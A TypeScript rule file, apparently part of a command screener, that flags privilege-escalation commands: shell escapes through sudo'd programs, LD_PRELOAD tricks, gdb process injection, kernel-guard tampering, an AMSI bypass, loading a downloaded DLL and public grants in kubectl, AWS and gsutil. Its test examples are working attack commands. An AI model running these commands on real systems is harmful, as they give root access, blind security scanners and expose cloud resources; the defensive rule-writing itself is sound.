/** Ways to more rights than were given: programs that open a shell as root, other processes, grants to everybody. */
import { hasFlag, joinedArgs, operands } from '../invocation.ts';
import type { Invocation } from '../invocation.ts';
import { outputOf } from '../outputs.ts';
import type { CommandRule } from '../rule.ts';
import { writtenPaths } from '../written.ts';

/** A shell without a text of its own: it waits for whoever asked for it. */
const BARE_SHELL = String.raw`(?:\/(?:usr\/)?(?:local\/)?bin\/)?(?:ba|z|da|k|c|tc)?sh(?![\w.\/-])(?!["']?\s{0,4},?\s{0,4}["']?-\w*c)`;
/** How programs that are no shells are told to become one. */
const ESCAPE = new RegExp(String.raw`(?:\b(?:exec[lv]?p?e?|system|spawn[lv]?p?|popen|execute|spawnsync|execsync|passthru|shell_exec)\b[\s("'\[{]{0,8}|-exec(?:dir)?\s{1,4}|(?:^|[\s:+'"])!\s{0,2}|checkpoint-action=exec=|pre-invoke\W{1,4}|pager=['"!]{0,2}|-e\s{1,2}['"]?(?:${BARE_SHELL}\s{1,4}-c\s)?|-tt\s{1,4}['"]?(?:${BARE_SHELL}\s{1,4}-c\s)?|--use-compress-program=|-I\s{1,2}['"]?|proxycommand=['";]{0,2}|localcommand=|rsh=|\|&?\s{0,2}|spawn\s{1,4})${BARE_SHELL}`, 'i');
const ESCAPERS = ['find', 'fd', 'vim', 'vi', 'nvim', 'view', 'rvim', 'less', 'more', 'man', 'awk', 'gawk', 'mawk', 'nawk', 'perl', 'python', 'ruby', 'node', 'php', 'lua', 'tar', 'zip', 'git', 'nmap', 'ftp', 'gdb', 'ed', 'expect', 'rsync', 'ssh', 'scp', 'sftp', 'apt', 'apt-get', 'make', 'mysql', 'psql', 'sqlite3', 'tcpdump', 'irb', 'jrunscript', 'journalctl', 'systemctl', 'pip', 'npm', 'composer', 'cpan', 'emacs', 'nano', 'docker', 'flock', 'watch', 'capsh', 'openvpn', 'wget', 'split', 'socat', 'xargs', 'env', 'sed', 'crash', 'dmesg', 'busctl', 'go', 'run-parts', 'service'];
/** Folders where anyone may put a library. */
const LOOSE_PLACE = /^(?:\.?\/)?(?:tmp|var\/tmp|dev\/shm|home\/[^/]{1,64})\/|^\.\//;

function everybody(text: string): boolean {
  return /"principal"\s{0,8}:\s{0,8}(?:"\*"|\{\s{0,8}"aws"\s{0,8}:\s{0,8}(?:"\*"|\[\s{0,8}"\*"))/i.test(text) && /"effect"\s{0,8}:\s{0,8}"allow"/i.test(text) && !/"condition"/i.test(text);
}

/** Whether a policy lets do more than read what is meant for the public. */
function mayDoMore(text: string): boolean {
  return /"(?:\w{1,32}:)?\*"\s{0,4}[,}\]]|"\w{1,32}:(?:put|delete|create|update|write|list\w{0,16}\*|invoke|send|receive|decrypt|assume)\w{0,48}\*?"/i.test(text.replace(/"principal"\s{0,8}:\s{0,8}(?:"\*"|\{[^}]{0,128}\})/gi, '').replace(/"resource"\s{0,8}:\s{0,8}(?:"[^"]{0,512}"|\[[^\]]{0,2048}\])/gi, ''));
}

/** The text of a policy that is given as such or in a file that the same script wrote. */
function policyOf(invocation: Invocation): string {
  const given = invocation.texts.map((text) => (text.startsWith('file://') ? invocation.files.get(text.slice(7))?.text ?? '' : text));
  return given.join(' ').slice(0, 8192);
}

const PROC_GUARD = /^\/proc\/sys\/(?:kernel\/(?:yama\/ptrace_scope|randomize_va_space|core_pattern|modprobe|dmesg_restrict)|fs\/suid_dumpable)$|^\/sys\/(?:fs\/selinux\/(?:enforce|disable)|kernel\/security\/(?:apparmor|lockdown)\S{0,64})$/;
const AMSI = /initfailed|amsi(?:initfailed|scanbuffer|scanstring|utils|context|session|opensession|\.dll)|etweventwrite|psetwlogprovider|etwprovider.{0,64}m_enabled|cachedgrouppolicysettings/i;

export const ESCALATION_RULES: readonly CommandRule[] = [
  {
    id: 'escape-to-root-shell', family: 'privilege', certainty: 'certain', verbs: ESCAPERS,
    // A program that may be run as root is made to open a shell, which then may do anything.
    test: (invocation) => {
      if (!invocation.setting.privileged || invocation.setting.place === 'container' || invocation.code !== undefined) return false;
      const args = joinedArgs(invocation);
      if (invocation.name === 'nmap') return /--interactive|os\.execute/.test(args) || invocation.args.some((word) => word.content?.includes('os.execute') === true);
      if (invocation.name === 'docker') return false;
      return ESCAPE.test(args) || (/^(?:n?vim?|view|rvim|emacs)$/.test(invocation.name) && /:(?:shell|terminal|sh)\b|:py3?\s.{0,64}(?:sh\b|exec)/.test(args));
    },
    matches: ["sudo find . -exec /bin/sh \\; -quit", "sudo vim -c ':!/bin/bash'", "sudo awk 'BEGIN {system(\"/bin/sh\")}'", 'sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh', "sudo python3 -c 'import os; os.execl(\"/bin/sh\", \"sh\")'", "sudo perl -e 'exec \"/bin/sh\";'", "sudo git -c core.pager='!/bin/sh' log", "sudo less +'!sh' /etc/profile"],
    ignores: ["sudo find /srv -name x -exec sh -c 'gzip \"$1\"' _ {} \\;", 'sudo vim /etc/hosts', "sudo awk '{print $1}' /var/log/syslog", 'sudo bash', 'sudo apt-get install -y zsh', 'sudo chsh -s /bin/zsh me', 'sudo find /usr -name bash', 'find . -exec /bin/sh \\;', "sudo python3 -c 'import sys; print(sys.version)'", 'sudo cp run.sh /usr/local/bin/'],
  },
  {
    id: 'preload-as-root', family: 'privilege', certainty: 'certain', verbs: ['sudo', 'doas', 'pkexec'],
    test: (invocation) => invocation.texts.slice(0, 8).some((text) => /^(?:LD_PRELOAD|LD_LIBRARY_PATH|LD_AUDIT|PYTHONPATH|PERL5LIB)=/.test(text) && LOOSE_PLACE.test(text.replace(/^\w+=/, ''))),
    matches: ['sudo LD_PRELOAD=/tmp/x.so find', 'sudo LD_LIBRARY_PATH=/dev/shm/l apache2'],
    ignores: ['sudo DEBIAN_FRONTEND=noninteractive apt-get install -y jq', 'LD_PRELOAD=./libjemalloc.so ./server'],
  },
  {
    id: 'inject-into-process', family: 'privilege', certainty: 'certain', verbs: ['gdb', 'lldb', 'strace', 'ptrace', 'frida'],
    test: (invocation) => {
      const args = joinedArgs(invocation);
      if (invocation.code !== undefined || invocation.setting.place === 'container') return false;
      if (invocation.name === 'strace') return /(?:^|\s)-p\s?(?:\$\(\)|\d{1,7})/.test(args) && /sshd|passwd|\bsu\b|ssh-agent/.test(args);
      const attached = /(?:^|\s)(?:-p|--pid|--attach-pid)[\s=]?\S/.test(args);
      return attached && (/(?:^|\s)(?:-p|--pid|--attach-pid)[\s=]?1(?:\s|$)/.test(args) || /call\s{0,4}\(?.{0,32}(?:system|dlopen|__libc_dlopen|popen|setuid|execve?)\b/.test(args));
    },
    matches: ["gdb -p 1 -batch -ex 'call (int)system(\"id\")'", "gdb -p 4321 -ex 'call dlopen(\"/tmp/x.so\", 1)'", "sudo gdb --pid 812 --batch -ex 'print 1' -ex 'call system(\"id > /tmp/o\")'"],
    ignores: ['gdb -p 4321', "gdb -p 4321 -batch -ex 'thread apply all bt'", 'gdb ./a.out core', 'strace -p 4321 -f -e trace=network'],
  },
  {
    id: 'loosen-kernel', family: 'privilege', certainty: 'likely', verbs: ['<writes>'],
    test: (invocation) => invocation.setting.place !== 'container' && writtenPaths(invocation).some((path) => PROC_GUARD.test(path)) && !/^\s{0,4}[1-3]\s{0,4}$/.test(outputOf(invocation)?.text ?? outputOf(invocation.feeds.at(-1) ?? invocation)?.text ?? ''),
    matches: ['echo 0 > /proc/sys/kernel/yama/ptrace_scope', 'echo 0 | sudo tee /proc/sys/kernel/randomize_va_space', "echo '|/tmp/x %p' > /proc/sys/kernel/core_pattern", 'echo 0 > /sys/fs/selinux/enforce'],
    ignores: ['echo 1 > /proc/sys/kernel/yama/ptrace_scope', 'echo 2 | sudo tee /proc/sys/kernel/randomize_va_space', 'cat /proc/sys/kernel/core_pattern', 'echo 3 > /proc/sys/vm/drop_caches'],
  },
  {
    id: 'blind-script-scanner', family: 'privilege', certainty: 'certain', verbs: ['<script>'],
    // Windows hands scripts to its scanner, and tells of them, through these; a script has no other use for them.
    test: (invocation) => {
      const code = (invocation.code ?? '').slice(0, 65_536);
      return AMSI.test(code) && /SetValue|GetField|NonPublic|GetProcAddress|VirtualProtect|Marshal|\[Ref\]|DllImport|WriteProcessMemory|=\s{0,4}\$null/i.test(code);
    },
    matches: ["PS> [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)", "PS> $a=[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils');$a.GetField('am'+'siInitFailed','NonPublic,Static').SetValue($null,$true)"],
    ignores: ['PS> Get-ChildItem C:\\Windows\\System32\\amsi.dll', "PS> Select-String -Path *.ps1 -Pattern 'AmsiUtils'"],
  },
  {
    id: 'load-downloaded-library', family: 'download-run', certainty: 'certain', verbs: ['<script>'],
    test: (invocation) => {
      const code = (invocation.code ?? '').slice(0, 65_536);
      if (/[&.]\s{0,2}(?:\$\w{1,64}|\(\s{0,2}(?:gcm|get-command|gal|get-alias)\s[^()\n]{1,64}\))\s{0,4}\(?\s{0,2}\(?\s{0,2}(?:iwr|irm|invoke-(?:webrequest|restmethod)|new-object\s{1,4}(?:system\.)?net\.webclient)\b/i.test(code)) return true;
      return /Assembly\]?(?:::|\.)\s{0,2}(?:Unsafe)?Load(?:File|From)?\s{0,2}\(|Add-Type\b.{0,64}-TypeDefinition/i.test(code) && /Download(?:Data|String|File)|GetByteArrayAsync|GetStringAsync|Invoke-WebRequest|\biwr\b|\birm\b|Invoke-RestMethod|OpenRead/i.test(code) && !/https?:\/\/(?:localhost|127\.)/i.test(code);
    },
    matches: ["PS> [Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://203.0.113.5/l.dll')).EntryPoint.Invoke($null,$null)", "PS> $b=(iwr https://example.com/x.dll).Content; [System.Reflection.Assembly]::Load($b)"],
    ignores: ["PS> [Reflection.Assembly]::LoadFrom('C:\\\\app\\\\lib.dll')", 'PS> iwr https://example.com/lib.dll -OutFile lib.dll'],
  },
  {
    id: 'grant-to-everybody', family: 'privilege', certainty: 'certain', verbs: ['kubectl', 'oc', 'aws', 'gsutil', 'gcloud', 'az'],
    test: (invocation) => {
      const args = joinedArgs(invocation);
      if (invocation.name === 'kubectl' || invocation.name === 'oc') {
        return (/\bcreate (?:cluster)?rolebinding\b/.test(args) && /--user[= ]system:anonymous|--group[= ]system:(?:unauthenticated|anonymous)|--clusterrole[= ](?:cluster-)?admin\b.*--group[= ]system:(?:authenticated|serviceaccounts)(?:\s|$)|--group[= ]system:(?:authenticated|serviceaccounts)(?:\s.*|\s?)--clusterrole[= ](?:cluster-)?admin\b/.test(args))
          || /\badd-cluster-role-to-(?:user|group) (?:cluster-)?admin system:(?:anonymous|unauthenticated|authenticated)/.test(args);
      }
      if (invocation.name === 'aws') {
        if (/\b(?:put-bucket-policy|put-key-policy|set-repository-policy|put-repository-policy|put-resource-policy|set-queue-attributes|set-topic-attributes|update-assume-role-policy|create-role)\b/.test(args)) {
          const policy = policyOf(invocation).replaceAll('\\"', '"');
          return everybody(policy) && mayDoMore(policy);
        }
        return /\badd-permission\b.*--principal\s+\*(?:\s|$)/.test(args) && !/--source-(?:arn|account)|--function-url-auth-type/.test(args);
      }
      return /(?:iam ch|add-iam-policy-binding).*all(?:authenticated)?users/.test(args) && /admin|owner|editor|write|creator/.test(args);
    },
    matches: ['kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=system:anonymous', 'kubectl create clusterrolebinding all --clusterrole=cluster-admin --group=system:authenticated', "aws s3api put-bucket-policy --bucket b --policy '{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"s3:*\",\"Resource\":\"arn:aws:s3:::b/*\"}]}'", 'gsutil iam ch allUsers:objectAdmin gs://b'],
    ignores: ['kubectl create clusterrolebinding admin --clusterrole=cluster-admin --user=me@example.com', "aws s3api put-bucket-policy --bucket site --policy '{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"s3:GetObject\",\"Resource\":\"arn:aws:s3:::site/*\"}]}'", 'kubectl create rolebinding dev --role=edit --user=ann', 'aws s3api get-bucket-policy --bucket b', 'gsutil iam ch allUsers:objectViewer gs://site'],
  },
  {
    id: 'copy-of-shell', family: 'privilege', certainty: 'certain', verbs: ['chmod', 'install', 'chown', 'copy', 'copy-item', 'xcopy'],
    // A copy of a shell, or of any program in a place for temporary files, that everyone runs as its owner; on Windows,
    // a shell in place of what the screen for logging in may start.
    test: (invocation) => {
      if (invocation.setting.place === 'container') return false;
      const words = operands(invocation).map((word) => word.text);
      if (invocation.name.includes('copy')) return /(?:cmd|powershell|explorer)\.exe/i.test(words.at(-2) ?? '') && /(?:sethc|utilman|osk|magnify|narrator|displayswitch|atbroker)\.exe/i.test(words.at(-1) ?? '');
      const bit = invocation.texts.some((text) => /^[ugoa]*[+=]\w*s\w*$|^0?[4-7][0-7]{3}$|^-m0?[4-7][0-7]{3}$/.test(text));
      if (!bit || invocation.name === 'chown') return false;
      return words.some((word) => /^\/(?:var\/tmp|dev\/shm)\/./.test(word) && !/^[1-3]/.test(words[0] ?? '') || (invocation.files.get(word)?.writers ?? []).some((writer) => /^(?:cp|install|mv|ln|dd|cat)$/.test(writer.name) && writer.texts.some((text) => /(?:^|\/)(?:(?:ba|z|da|k)?sh|python[\d.]*|perl|env|find|busybox)$/.test(text)))) || (hasFlag(invocation, 'm') && words.some((word) => /\/bin\/(?:ba|z|da|k)?sh$/.test(word)));
    },
    matches: ['cp /bin/bash /var/tmp/.b && chmod 4755 /var/tmp/.b', 'cp /bin/sh ./rootsh; chown root ./rootsh; chmod u+s ./rootsh', 'install -m 4755 /bin/bash /opt/x', 'C:\\> copy /y C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\sethc.exe'],
    ignores: ['chmod 1777 /var/tmp/shared', 'cp run.sh bin/run && chmod 755 bin/run', 'chmod 2775 shared', 'install -m 755 app /usr/local/bin/app'],
  },
];
